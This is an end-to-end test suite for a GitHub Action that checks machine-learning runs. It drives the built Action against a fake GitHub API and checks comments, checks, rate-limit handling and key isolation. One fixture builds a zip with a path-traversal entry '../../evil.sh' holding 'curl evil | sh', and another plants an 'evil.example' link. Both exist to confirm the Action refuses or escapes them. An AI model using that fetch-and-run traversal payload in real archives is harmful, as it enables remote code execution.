// End-to-end: the built dist/index.js, run as the runner runs it, against a local GitHub API
// that validates every request against GitHub's OpenAPI description. Payloads are real
// webhook examples (@octokit/webhooks-examples), adjusted only where a case needs it (a fork).
import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeZip, zipDirectory } from '../github/zip-writer.js';
import { answer, startFakeOpenAi, toolCalls, toolResultsOf } from '../llm/fake-openai-server.js';
import { FakeGitHub } from './fake-github.js';
import { runAction, webhookExample, type ActionRun, type RunOptions } from './runner.js';

const CHURN = 'examples/churn';
const COLLAPSE = 'test/e2e/fixtures/collapse';
const MARKER = '<!-- ml-doctor:report -->';
const KEY_MARKER = '<!-- ml-doctor:key=.github/ml-doctor.yml -->';
const FORK_HINT = '::notice::ml-doctor: this pull request comes from a fork';
/** The same run on both sides: nothing moves, so the verdict is pass whatever the analysis does. */
const STEADY = `${COLLAPSE}/baseline`;
/** The exit code the gate owes a pull request: 1 exactly when the verdict is fail. */
const exitFor = (r: ActionRun) => (r.outputs['verdict'] === 'fail' ? 1 : 0);

let dist = '';

beforeAll(() => {
  // Build the bundle fresh: the test must not depend on the committed dist/ being current.
  const out = mkdtempSync(join(tmpdir(), 'mld-dist-'));
  execFileSync(process.execPath, ['scripts/build.mjs', '--outdir', out], { stdio: 'inherit' });
  dist = join(out, 'index.js');
});

/** Starts a fake API for `repo`, runs `body`, stops it, and fails on any request that broke the OpenAPI description. */
async function withGitHub(repo: string, body: (gh: FakeGitHub, run: (o: Omit<RunOptions, 'dist' | 'apiUrl' | 'repo'>) => Promise<ActionRun>) => Promise<void>): Promise<FakeGitHub> {
  const gh = new FakeGitHub(repo);
  const apiUrl = await gh.start();
  try {
    await body(gh, (o) => runAction({ ...o, dist, apiUrl, repo }));
  } finally {
    await gh.stop();
  }
  expect(gh.violations).toEqual([]);
  return gh;
}

/** A local OpenAI-compatible endpoint that records who called it and with which key. */
async function llmEndpoint(): Promise<{ url: string; auth: string[]; close: () => Promise<void> }> {
  const auth: string[] = [];
  const server = createServer((req, res) => {
    auth.push(req.headers.authorization ?? '');
    req.resume();
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          id: 'chatcmpl-e2e',
          object: 'chat.completion',
          created: 1767225600,
          model: 'e2e-model',
          choices: [{ index: 0, message: { role: 'assistant', refusal: null, content: '{"causes":[]}' }, finish_reason: 'stop', logprobs: null }],
          usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 },
        }),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/v1`, auth, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

type Payload = Record<string, unknown>;
const synchronize = () => webhookExample('pull_request', (p) => p['action'] === 'synchronize');
const pr = (p: Payload) => p['pull_request'] as { number: number; head: { sha: string; ref: string; repo: { full_name: string; owner: { login: string }; fork: boolean } }; base: { ref: string; sha: string } };
const repoOf = (p: Payload) => (p['repository'] as { full_name: string }).full_name;
const ours = (gh: FakeGitHub, n: number) => gh.commentsOn(n).filter((c) => c.body.startsWith(MARKER) && c.body.includes(KEY_MARKER));
const report = (r: ActionRun) => JSON.parse(readFileSync(join(r.workspace, r.outputs['report-path']!), 'utf8')) as { verdict: string; agent?: unknown; baseline: { source: string; ref: string }; findings: { category: string; evidence: { text: string }[] }[] };
const infraEvidence = (r: ActionRun) => report(r).findings.filter((f) => f.category === 'infrastructure').flatMap((f) => f.evidence.map((e) => e.text)).join('\n');

/** The base branch's baseline workflow, with a successful push run that uploaded `zip`, plus runs that must be skipped. */
function seedBaseline(gh: FakeGitHub, branch: string, zip: Buffer, workflow = 'baseline-on-main.yml'): number {
  gh.addRun({ workflow, event: 'push', branch, sha: '1'.repeat(40), headRepo: gh.repo, conclusion: 'success' }, [{ name: 'ml-artifacts', zip: makeZip([{ name: 'metrics.json', data: '{"test": {"accuracy": 0.1}}' }]) }]);
  const good = gh.addRun({ workflow, event: 'push', branch, sha: '2'.repeat(40), headRepo: gh.repo, conclusion: 'success' }, [{ name: 'ml-artifacts', zip }]);
  // Newer, but a failed run, and a fork's PR run whose branch is also called `branch`.
  gh.addRun({ workflow, event: 'push', branch, sha: '3'.repeat(40), headRepo: gh.repo, conclusion: 'failure' }, [{ name: 'ml-artifacts', zip: makeZip([{ name: 'metrics.json', data: '{}' }]) }]);
  gh.addRun({ workflow, event: 'pull_request', branch, sha: '4'.repeat(40), headRepo: 'mallory/fork', conclusion: 'success' }, [{ name: 'ml-artifacts', zip: makeZip([{ name: 'metrics.json', data: '{}' }]) }]);
  return good.id;
}

describe.concurrent('the built Action against a GitHub API that checks every request', { timeout: 60_000 }, () => {
  it('pull_request.synchronize: the first run creates one comment, the second edits it, among 250 other comments', async () => {
    const payload = synchronize();
    const { number, base } = pr(payload);
    await withGitHub(repoOf(payload), async (gh, run) => {
      gh.addComments(number, Array.from({ length: 250 }, (_, i) => `Unrelated review comment ${i}`));
      const baselineRun = seedBaseline(gh, base.ref, zipDirectory(`${CHURN}/baseline`));
      const inputs = { 'baseline-workflow': 'baseline-on-main.yml' };

      const first = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current`, inputs });
      expect(first.stderr).toBe('');
      expect(first.code).toBe(exitFor(first));
      expect(ours(gh, number)).toHaveLength(1);
      expect(gh.commentsOn(number)).toHaveLength(251);
      const comment = ours(gh, number)[0]!;
      expect(first.outputs['comment-url']).toBe(`https://github.com/${gh.repo}/pull/${number}#issuecomment-${comment.id}`);
      expect(report(first).baseline).toEqual({ source: 'artifact', ref: `ml-artifacts@run ${baselineRun} (${base.ref} 222222222222)` });
      expect(first.outputs['findings']).toBe(String(report(first).findings.length));
      expect(first.summary).toContain('## ml-doctor:');
      // Every page of comments was read: 250 unrelated ones take three pages of 100.
      expect(gh.requests.filter((r) => r.operationId === 'issues/list-comments').map((r) => new URL(r.path, gh.url).searchParams.get('page') ?? '1')).toEqual(['1', '2', '3', '1', '2', '3']);
      // The artifact's bytes came from storage, without the job's token.
      expect(gh.storageAuth).toEqual([undefined]);

      const second = structuredClone(payload);
      pr(second).head.sha = '9'.repeat(40);
      const again = await run({ event: 'pull_request', payload: second, artifacts: `${CHURN}/current`, inputs });
      expect(again.code).toBe(exitFor(again));
      expect(ours(gh, number)).toEqual([{ id: comment.id, body: expect.stringContaining('commit 9999999') as string }]);
      expect(gh.count('issues/create-comment')).toBe(1);
      expect(gh.count('issues/update-comment')).toBe(1);
      expect(again.outputs['comment-url']).toBe(first.outputs['comment-url']);
      expect(gh.checkRuns.map((c) => [c.name, c.head_sha])).toEqual([
        ['ml-doctor', pr(payload).head.sha],
        ['ml-doctor', '9'.repeat(40)],
      ]);
    });
  });

  it("workflow_dispatch with pr-number and mode deep publishes its own comment and check, leaving the gate's untouched", async () => {
    const payload = webhookExample('workflow_dispatch', (p) => p['ref'] === 'refs/heads/master');
    await withGitHub(repoOf(payload), async (gh, run) => {
      gh.addPull({ number: 7, headSha: '7'.repeat(40), headRef: 'tune-lr', headRepo: gh.repo, baseRef: 'master', baseSha: '8'.repeat(40) });
      seedBaseline(gh, 'master', zipDirectory(`${COLLAPSE}/baseline`));
      const common = { event: 'workflow_dispatch', payload, artifacts: `${COLLAPSE}/current`, ref: 'refs/heads/master' } as const;
      const gate = await run({ ...common, workflowFile: 'pr-review.yml', inputs: { 'pr-number': '7', 'baseline-workflow': 'baseline-on-main.yml' } });
      expect(gate.code).toBe(1);
      const gateComment = ours(gh, 7)[0]!;

      const deep = await run({ ...common, workflowFile: 'deep-diagnosis.yml', inputs: { 'pr-number': '7', mode: 'deep', 'baseline-workflow': 'baseline-on-main.yml' } });
      expect(deep.code).toBe(exitFor(deep));
      expect(report(deep).baseline.source).toBe('artifact');
      // The gate's comment is as the gate left it; the deep run wrote a second one with its own key.
      expect(ours(gh, 7)).toEqual([gateComment]);
      const deepComments = gh.commentsOn(7).filter((c) => c.body.startsWith(MARKER) && c.body.includes('<!-- ml-doctor:key=deep:.github/ml-doctor.yml -->'));
      expect(deepComments).toHaveLength(1);
      expect(deepComments[0]!.body).toContain('deep mode');
      expect(deep.outputs['comment-url']).toBe(`https://github.com/${gh.repo}/pull/7#issuecomment-${deepComments[0]!.id}`);
      expect(gh.checkRuns.map((c) => [c.name, c.head_sha, c.conclusion])).toEqual([
        ['ml-doctor', '7'.repeat(40), 'failure'],
        ['ml-doctor (deep)', '7'.repeat(40), 'failure'],
      ]);
      expect(gh.checkRuns[1]!.output.title).toMatch(/\(deep\)$/);
    });
  });

  it.each([
    ['was cancelled', { conclusion: 'cancelled' }, 'the triggering run concluded \'cancelled\''],
    ["reviewed a commit that is no longer the PR's head", { head_sha: 'a'.repeat(40) }, "the triggering run reviewed aaaaaaa, but pull request #12's head is now"],
  ])('a workflow_run whose triggering run %s publishes nothing and says why', async (_label, change, why) => {
    const payload = webhookExample('workflow_run', (p) => p['action'] === 'completed' && (p['workflow_run'] as { conclusion: string }).conclusion === 'success');
    const wr = payload['workflow_run'] as Record<string, unknown> & { head_sha: string; workflow_id: number; head_repository: { full_name: string; owner: { login: string } } };
    const headSha = wr.head_sha;
    Object.assign(wr, { event: 'pull_request', pull_requests: [], head_branch: 'improve-model' }, change);
    wr.head_repository = { ...wr.head_repository, full_name: 'forker/octo-repo', owner: { ...wr.head_repository.owner, login: 'forker' } };
    await withGitHub(repoOf(payload), async (gh, run) => {
      gh.addPull({ number: 12, headSha, headRef: 'improve-model', headRepo: 'forker/octo-repo', baseRef: 'master', baseSha: '8'.repeat(40) });
      seedBaseline(gh, 'master', zipDirectory(`${COLLAPSE}/baseline`), String(wr.workflow_id));
      const r = await run({ event: 'workflow_run', payload, artifacts: `${COLLAPSE}/current`, workflowFile: 'fork-safe-review.yml', ref: 'refs/heads/master' });
      expect(r.code).toBe(0);
      expect(r.stdout).toContain(`::notice::ml-doctor: nothing published to pull request #12: ${why}`);
      expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
      expect(r.summary).toContain('## ml-doctor: ❌ fail');
    });
  });

  it.each([
    ['exits 0 when the verdict passes', STEADY, STEADY, 0],
    ['exits 1 when the verdict fails', `${COLLAPSE}/baseline`, `${COLLAPSE}/current`, 1],
  ])('a fork PR whose token cannot comment (403) %s, writes the job summary and prints the hint', async (_label, baselineDir, currentDir, code) => {
    const payload = synchronize();
    const head = pr(payload).head;
    head.repo = { ...head.repo, full_name: 'forker/Hello-World', owner: { ...head.repo.owner, login: 'forker' }, fork: true };
    await withGitHub(repoOf(payload), async (gh, run) => {
      seedBaseline(gh, pr(payload).base.ref, zipDirectory(baselineDir), 'pr-review.yml');
      const denied = { status: 403, body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest' } };
      gh.fault('issues/create-comment', denied);
      gh.fault('checks/create', denied);
      const r = await run({ event: 'pull_request', payload, artifacts: currentDir });
      expect(r.code).toBe(code);
      expect(r.outputs['verdict']).toBe(code === 1 ? 'fail' : 'pass');
      expect(r.stdout.split('\n').filter((l) => l.startsWith(FORK_HINT))).toHaveLength(1);
      expect(r.stdout).not.toMatch(/::warning::.*(comment|check run)/);
      expect(r.summary).toContain('## ml-doctor:');
      expect(r.outputs['comment-url']).toBe('');
      if (code === 1) expect(r.stdout).toContain('::error::ml-doctor: verdict fail (fail-on: critical)');
      else expect(r.stdout).not.toContain('::error::');
    });
  });

  it('a failing verdict with fail-on critical exits 1, concludes the check as failure and annotates the changed parameter', async () => {
    const payload = synchronize();
    const { number, base, head } = pr(payload);
    await withGitHub(repoOf(payload), async (gh, run) => {
      seedBaseline(gh, base.ref, zipDirectory(`${COLLAPSE}/baseline`), 'pr-review.yml');
      gh.files.set(number, [
        { filename: 'train.py', status: 'modified', patch: '@@ -1 +1 @@\n-LR = 0.001\n+LR = 0.5' },
        { filename: 'configs/train.yaml', status: 'modified', patch: '@@ -1,2 +1,2 @@\n model: { type: gbm, depth: 6 }\n-optimizer: { lr: 0.001 }\n+optimizer: { lr: 0.5 }' },
      ]);
      const r = await run({ event: 'pull_request', payload, artifacts: `${COLLAPSE}/current`, inputs: { 'fail-on': 'critical' } });
      expect(r.code).toBe(1);
      expect(r.outputs['verdict']).toBe('fail');
      expect(r.stdout).toMatch(/^::error::ml-doctor: verdict fail \(fail-on: critical\)\. /m);
      expect(gh.checkRuns).toHaveLength(1);
      expect(gh.checkRuns[0]).toMatchObject({ name: 'ml-doctor', head_sha: head.sha, status: 'completed', conclusion: 'failure', output: { title: expect.stringMatching(/^fail: 1 critical/) as string } });
      expect(gh.checkRuns[0]!.output.annotations).toEqual([expect.objectContaining({ path: 'configs/train.yaml', start_line: 2, end_line: 2 })]);
    });
  });

  it('the same failing run with fail-on never exits 0', async () => {
    const payload = synchronize();
    await withGitHub(repoOf(payload), async (gh, run) => {
      seedBaseline(gh, pr(payload).base.ref, zipDirectory(`${COLLAPSE}/baseline`), 'pr-review.yml');
      const r = await run({ event: 'pull_request', payload, artifacts: `${COLLAPSE}/current`, inputs: { 'fail-on': 'never' } });
      expect(r.code).toBe(0);
      expect(r.outputs['verdict']).not.toBe('fail');
      expect(r.stdout).not.toContain('::error::');
      expect(gh.checkRuns[0]!.conclusion).not.toBe('failure');
    });
  });

  it.each([
    ['entries with ../ paths', makeZip([{ name: 'metrics.json', data: '{}' }, { name: '../../evil.sh', data: 'curl evil | sh' }]), "entry '../../evil.sh' points outside the extraction directory"],
    ['a 10 GB declared size', makeZip([{ name: 'eval/predictions.csv', data: 'label,pred\n1,1\n', declaredSize: 10 * 1024 ** 3 }]), "entry 'eval/predictions.csv' declares 10.0 GiB"],
  ])('refuses a baseline artifact with %s and says so in an infrastructure finding', async (_label, zip, why) => {
    const payload = synchronize();
    await withGitHub(repoOf(payload), async (gh, run) => {
      seedBaseline(gh, pr(payload).base.ref, zip, 'pr-review.yml');
      const r = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current` });
      expect(r.code).toBe(exitFor(r));
      expect(report(r).baseline.source).toBe('none');
      expect(infraEvidence(r)).toContain(why);
      expect(infraEvidence(r)).toContain('(2) git: the workspace is not a git checkout');
      expect(r.stdout).toContain(`::warning::ml-doctor: baseline refused: artifact 'ml-artifacts'`);
      expect(existsSync(join(r.workspace, '..', 'runner-temp', 'evil.sh'))).toBe(false);
      expect(existsSync(join(r.workspace, '..', 'evil.sh'))).toBe(false);
    });
  });

  it('workflow_run (fork-safe): finds the fork PR by head branch and commit, publishes comment and check, and leaves failing to the check', async () => {
    const payload = webhookExample('workflow_run', (p) => p['action'] === 'completed' && (p['workflow_run'] as { conclusion: string }).conclusion === 'success');
    const wr = payload['workflow_run'] as { head_sha: string; workflow_id: number; event: string; head_branch: string; pull_requests: unknown[]; head_repository: { full_name: string; owner: { login: string } } };
    // As GitHub sends it for a fork: the PR list is empty and the head repository is the fork.
    wr.event = 'pull_request';
    wr.pull_requests = [];
    wr.head_branch = 'improve-model';
    wr.head_repository = { ...wr.head_repository, full_name: 'forker/octo-repo', owner: { ...wr.head_repository.owner, login: 'forker' } };
    await withGitHub(repoOf(payload), async (gh, run) => {
      gh.addPull({ number: 12, headSha: wr.head_sha, headRef: 'improve-model', headRepo: 'forker/octo-repo', baseRef: 'master', baseSha: '8'.repeat(40) });
      gh.addPull({ number: 13, headSha: '5'.repeat(40), headRef: 'other', headRepo: 'forker/octo-repo', baseRef: 'master', baseSha: '8'.repeat(40) });
      seedBaseline(gh, 'master', zipDirectory(`${CHURN}/baseline`), String(wr.workflow_id));
      const r = await run({ event: 'workflow_run', payload, artifacts: `${CHURN}/current`, workflowFile: 'fork-safe-review.yml', ref: 'refs/heads/master' });
      // The demo fails: the check on the PR's commit says so; this default-branch job stays green.
      expect(r.outputs['verdict']).toBe('fail');
      expect(r.code).toBe(0);
      expect(gh.checkRuns.map((c) => c.conclusion)).toEqual(['failure']);
      expect(gh.requests.some((q) => q.operationId === 'pulls/list' && q.path.includes('head=forker%3Aimprove-model'))).toBe(true);
      expect(ours(gh, 12)).toHaveLength(1);
      expect(gh.commentsOn(13)).toHaveLength(0);
      expect(gh.checkRuns.map((c) => c.head_sha)).toEqual([wr.head_sha]);
      // The baseline came from the triggering workflow's runs on the PR's base branch.
      expect(report(r).baseline.source).toBe('artifact');
    });
  });

  it('push to the default branch writes the summary only, even when the verdict fails', async () => {
    const payload = webhookExample('push', (p) => p['ref'] === 'refs/heads/master');
    await withGitHub(repoOf(payload), async (gh, run) => {
      seedBaseline(gh, 'master', zipDirectory(`${COLLAPSE}/baseline`));
      const r = await run({ event: 'push', payload, artifacts: `${COLLAPSE}/current`, workflowFile: 'baseline-on-main.yml', ref: 'refs/heads/master' });
      expect(r.code).toBe(0);
      expect(r.outputs['verdict']).toBe('fail');
      expect(r.outputs['comment-url']).toBe('');
      expect(r.summary).toMatch(/^> push: this run's uploaded artifact becomes the baseline for later pull requests/);
      expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
    });
  });

  it('waits out 5xx errors and primary and secondary rate limits, and still ends with one comment', async () => {
    const payload = synchronize();
    const { number } = pr(payload);
    await withGitHub(repoOf(payload), async (gh, run) => {
      gh.fault('issues/list-comments', { status: 502, body: { message: 'Server Error' } });
      gh.fault('issues/create-comment', {
        status: 403,
        // Resets within the next second or two: the client must wait for it, not give up.
        headers: () => ({ 'x-ratelimit-limit': '5000', 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 1) }),
        body: { message: 'API rate limit exceeded for installation ID 1.', documentation_url: 'https://docs.github.com/rest/overview/rate-limits-for-the-rest-api' },
      });
      gh.fault('checks/create', { status: 403, headers: () => ({ 'retry-after': '1' }), body: { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.' } });
      const r = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current`, inputs: { 'baseline-path': `artifacts` } });
      expect(r.code).toBe(0);
      expect(r.stdout).toMatch(/GitHub primary rate limit on POST .* waiting [1-3] s/);
      expect(r.stdout).toMatch(/GitHub secondary rate limit on POST .* waiting 1 s/);
      expect(ours(gh, number)).toHaveLength(1);
      expect(gh.count('issues/create-comment')).toBe(2);
      expect(gh.checkRuns).toHaveLength(1);
      expect(r.stdout).not.toContain('::warning::');
    });
  });

  it("sends the API key only to the workflow's endpoint, never to one the PR's config file names", async () => {
    const payload = synchronize();
    const [workflows, prs] = [await llmEndpoint(), await llmEndpoint()];
    try {
      await withGitHub(repoOf(payload), async (gh, run) => {
        seedBaseline(gh, pr(payload).base.ref, zipDirectory(STEADY), 'pr-review.yml');
        const files = { '.github/ml-doctor.yml': `llm: { provider: compatible, model: pr-model, base-url: '${prs.url}' }\n` };
        const key = { 'openai-api-key': 'sk-e2e-workflow-secret' };
        // The workflow holds a key but chose no LLM: the PR's config cannot switch one on.
        const quiet = await run({ event: 'pull_request', payload, artifacts: STEADY, files, inputs: key });
        expect(quiet.code).toBe(0);
        expect(report(quiet).agent).toBeUndefined();
        // The workflow chose its endpoint: the PR's config cannot move it.
        const r = await run({ event: 'pull_request', payload, artifacts: STEADY, files, inputs: { ...key, llm: 'compatible', 'llm-base-url': workflows.url } });
        expect(r.code).toBe(0);
        expect(r.stdout).toContain("::warning::ml-doctor: the 'llm' section of .github/ml-doctor.yml is ignored in the Action");
        expect(report(r)).toMatchObject({ agent: { provider: 'compatible', fallback: null } });
        expect(report(r)).not.toMatchObject({ agent: { model: 'pr-model' } });
      });
      // The workflow's endpoint was asked (so the LLM step did run) and the PR's never was.
      expect(workflows.auth).toEqual(['Bearer sk-e2e-workflow-secret']);
      expect(prs.auth).toEqual([]);
    } finally {
      await Promise.all([workflows.close(), prs.close()]);
    }
  });

  it('lets the agent read the pull request\'s diff from the API and cite a changed line, without touching the verdict', async () => {
    const payload = synchronize();
    const { number } = pr(payload);
    const cause = {
      title: 'The learning rate went to 0.5',
      rootCause: 'The pull request sets LR = 0.5 where it was 0.001.',
      fix: '`train.py:1` sets `LR = 0.5`; restore 0.001.',
      verification: 'Re-run the training and ml-doctor.',
      prevention: 'Review changes to the learning rate.',
      cites: ['call:2'],
    };
    const llm = await startFakeOpenAi([toolCalls(['pr_files', {}]), toolCalls(['pr_diff', { path: 'train.py' }]), answer([cause])]);
    try {
      await withGitHub(repoOf(payload), async (gh, run) => {
        seedBaseline(gh, pr(payload).base.ref, zipDirectory(`${COLLAPSE}/baseline`), 'pr-review.yml');
        gh.files.set(number, [{ filename: 'train.py', status: 'modified', patch: '@@ -1 +1 @@\n-LR = 0.001\n+LR = 0.5' }]);
        const r = await run({ event: 'pull_request', payload, artifacts: `${COLLAPSE}/current`, inputs: { llm: 'compatible', 'llm-base-url': llm.url, 'llm-api-key': 'sk-e2e-agent', 'fail-on': 'critical' } });
        expect(r.code).toBe(exitFor(r));
        const agent = (report(r) as { agent: { toolCalls: { name: string }[]; causes: unknown[]; fallback: string | null } }).agent;
        expect(agent.fallback).toBeNull();
        expect(agent.toolCalls.map((c) => c.name)).toEqual(['pr_files', 'pr_diff']);
        expect(agent.causes).toEqual([cause]);
        expect(ours(gh, number)[0]!.body).toContain('Explanation by gpt-4o-mini (LLM, does not affect the verdict)');
      });
      const diffResult = toolResultsOf(llm.received[2]!.body)[1]!.result as { diff: string };
      expect(diffResult.diff).toContain('1|+LR = 0.5');
      for (const req of llm.received) expect(req.headers.authorization).toBe('Bearer sk-e2e-agent');
    } finally {
      await llm.close();
    }
  });

  const HTML_502 = '<html><body><h1>502 Bad Gateway</h1><a href="https://evil.example">@octo-org/admins</a></body></html>';
  it.each([
    ['a 502 (after retries) on listing runs', 'actions/list-workflow-runs', { status: 502, headers: () => ({ 'content-type': 'text/html' }), body: HTML_502 }, 4, 'the GitHub API failed after retries (list successful runs of workflow pr-review.yml on master: HTTP 502 <html>'],
    ['a 403 on listing runs', 'actions/list-workflow-runs', { status: 403, body: { message: 'Resource not accessible by integration' } }, 1, "permission denied (list successful runs of workflow pr-review.yml on master: HTTP 403 Resource not accessible by integration); the job's token needs `actions: read`"],
    ['a 404 on listing runs', 'actions/list-workflow-runs', { status: 404, body: { message: 'Not Found' } }, 1, 'not found or expired'],
    ['a 410 on downloading the artifact', 'actions/download-artifact', { status: 410, body: { message: 'Artifact has expired' } }, 4, 'not found or expired'],
  ])('a baseline that cannot be fetched because of %s fails the gate: exit 1, check failure', async (_label, op, fault, times, why) => {
    const payload = synchronize();
    await withGitHub(repoOf(payload), async (gh, run) => {
      seedBaseline(gh, pr(payload).base.ref, zipDirectory(STEADY), 'pr-review.yml');
      gh.fault(op, fault, times);
      // Nothing moved between the runs: the baseline's absence is the only reason to fail.
      const r = await run({ event: 'pull_request', payload, artifacts: STEADY });
      expect(r.code).toBe(1);
      expect(r.outputs['verdict']).toBe('fail');
      expect(gh.checkRuns.map((c) => c.conclusion)).toEqual(['failure']);
      expect(report(r).findings[0]).toMatchObject({ category: 'infrastructure', severity: 'critical' });
      expect(infraEvidence(r)).toContain(why);
      // The edge's HTML page is evidence, shown as text.
      const comment = ours(gh, pr(payload).number)[0]!.body;
      expect(comment).not.toMatch(/<h1|<a |@octo-org/);
      expect(gh.checkRuns[0]!.output.summary).not.toMatch(/<h1|<a |@octo-org/);
    });
  });

  it('reports a rate-limited baseline lookup as a rate limit, not as a missing permission', async () => {
    const payload = synchronize();
    await withGitHub(repoOf(payload), async (gh, run) => {
      seedBaseline(gh, pr(payload).base.ref, zipDirectory(STEADY), 'pr-review.yml');
      gh.fault('actions/list-workflow-runs', {
        status: 403,
        // Resets in an hour: longer than the client waits, so the call fails.
        headers: () => ({ 'x-ratelimit-limit': '1000', 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(Math.floor(Date.now() / 1000) + 3600) }),
        body: { message: 'API rate limit exceeded for installation ID 1.', documentation_url: 'https://docs.github.com/rest/overview/rate-limits-for-the-rest-api' },
      });
      const r = await run({ event: 'pull_request', payload, artifacts: STEADY });
      expect(r.code).toBe(1);
      expect(infraEvidence(r)).toContain('GitHub API rate limit reached');
      expect(infraEvidence(r)).not.toContain('actions: read');
    });
  });

  it('on-missing-baseline: warn turns a failed baseline fetch into a warning, and a repository with no baseline run yet only warns', async () => {
    const payload = synchronize();
    await withGitHub(repoOf(payload), async (gh, run) => {
      gh.fault('actions/list-workflow-runs', { status: 403, body: { message: 'Resource not accessible by integration' } });
      const optedIn = await run({ event: 'pull_request', payload, artifacts: STEADY, inputs: { 'on-missing-baseline': 'warn' } });
      expect(optedIn.code).toBe(0);
      expect(optedIn.outputs['verdict']).toBe('warn');
      // No fault left and no run seeded: the listing works and finds nothing — a new repository.
      const fresh = await run({ event: 'pull_request', payload, artifacts: STEADY });
      expect(fresh.code).toBe(0);
      expect(fresh.outputs['verdict']).toBe('warn');
      expect(infraEvidence(fresh)).toContain('To set one up');
      expect(gh.checkRuns.map((c) => c.conclusion)).toEqual(['neutral', 'neutral']);
    });
  });

  it('rejects an invalid input with one line naming it, before calling the API', async () => {
    const payload = synchronize();
    await withGitHub(repoOf(payload), async (gh, run) => {
      const r = await run({ event: 'pull_request', payload, artifacts: `${CHURN}/current`, inputs: { 'fail-on': 'x' } });
      expect(r.code).toBe(1);
      expect(r.stdout.trim().split('\n')).toEqual(["::error::Invalid input 'fail-on': 'x'. Expected one of: critical, major, any, never."]);
      expect(gh.requests).toEqual([]);
    });
  });
});
